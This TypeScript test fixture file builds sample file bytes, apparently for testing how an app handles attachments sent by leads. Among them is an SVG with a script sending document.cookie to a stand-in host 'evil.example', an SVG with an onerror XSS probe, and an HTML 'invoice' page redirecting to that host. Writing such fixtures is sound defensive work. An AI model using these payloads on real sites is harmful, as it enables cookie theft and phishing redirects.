// Real bytes of the files a lead may send, built in the test: a minimal Windows PE executable,
// an Ogg Opus voice note, a PDF, a PNG, an SVG with and without script, an HTML page.

/** A DOS stub whose e_lfanew points at a PE header for x86-64: what Windows runs. */
export function exeBytes(): Uint8Array {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84); // machine: x86-64
  b.writeUInt16LE(1, 0x86); // one section
  return new Uint8Array(b);
}

/** The first page of an Ogg Opus stream (OpusHead), as WhatsApp voice notes start. */
export function oggOpusBytes(): Uint8Array {
  const head = Buffer.alloc(19);
  head.write('OpusHead', 0, 'latin1');
  head.writeUInt8(1, 8); // version
  head.writeUInt8(1, 9); // channels
  head.writeUInt16LE(312, 10); // pre-skip
  head.writeUInt32LE(48000, 12); // input sample rate
  const page = Buffer.alloc(28);
  page.write('OggS', 0, 'latin1');
  page.writeUInt8(0, 4); // version
  page.writeUInt8(2, 5); // beginning of stream
  page.writeUInt32LE(0x1234, 14); // serial
  page.writeUInt8(1, 26); // one segment
  page.writeUInt8(head.length, 27);
  return new Uint8Array(Buffer.concat([page, head, Buffer.alloc(200)]));
}

export const pdfBytes = (): Uint8Array =>
  new Uint8Array(
    Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      'latin1',
    ),
  );

/** A 1×1 PNG. */
export const pngBytes = (): Uint8Array =>
  new Uint8Array(
    Buffer.from(
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      'base64',
    ),
  );

export const svgWithScript = (): Uint8Array =>
  new Uint8Array(
    Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>fetch("https://evil.example/?c="+document.cookie)</script></svg>\n',
    ),
  );

export const svgWithHandler = (): Uint8Array =>
  new Uint8Array(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>'));

export const plainSvg = (): Uint8Array =>
  new Uint8Array(
    Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#c00"/></svg>',
    ),
  );

export const htmlBytes = (): Uint8Array =>
  new Uint8Array(
    Buffer.from(
      '<!DOCTYPE html>\n<html><body><script>location="https://evil.example"</script>Your invoice</body></html>\n',
    ),
  );
